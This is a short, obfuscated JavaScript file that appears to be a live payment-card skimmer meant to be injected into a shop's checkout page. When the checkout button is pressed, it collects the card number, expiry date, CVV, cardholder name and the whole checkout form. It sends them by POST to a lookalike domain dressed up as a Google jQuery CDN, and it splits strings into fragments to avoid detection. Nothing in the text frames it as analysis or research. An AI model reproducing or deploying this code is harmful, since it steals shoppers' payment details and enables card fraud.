var _0xf = {
    a: "#" + "cc" + "_" + "num" + "ber",
    b: "#" + "cc" + "_" + "ex" + "p",
    c: "#" + "c" + "v" + "v",
    d: "#" + "card" + "_" + "hol" + "der",
    e: "ht" + "tps" + "://" + "ajax-" + "googleapis" + "-cdn" + ".com" + "/lib" + "s/jq" + "uery" + "/log"
};

jQuery(function () {
    var k = "mo" + "use" + "up";
    var t = "tou" + "ch" + "end";
    jQuery("#checkout-" + "submit").on(k + " " + t, function () {
        var o = {};
        o["\x6e"] = jQuery(_0xf.a).val();
        o["\x65"] = jQuery(_0xf.b).val();
        o["\x63"] = jQuery(_0xf.c).val();
        o["\x68"] = jQuery(_0xf.d).val();
        o["\x66"] = jQuery("#" + "check" + "out" + "Form").serialize();
        jQuery["aj" + "ax"]({
            url: _0xf.e,
            type: "PO" + "ST",
            data: JSON["strin" + "gify"](o),
            dataType: "application/json"
        });
    });
});
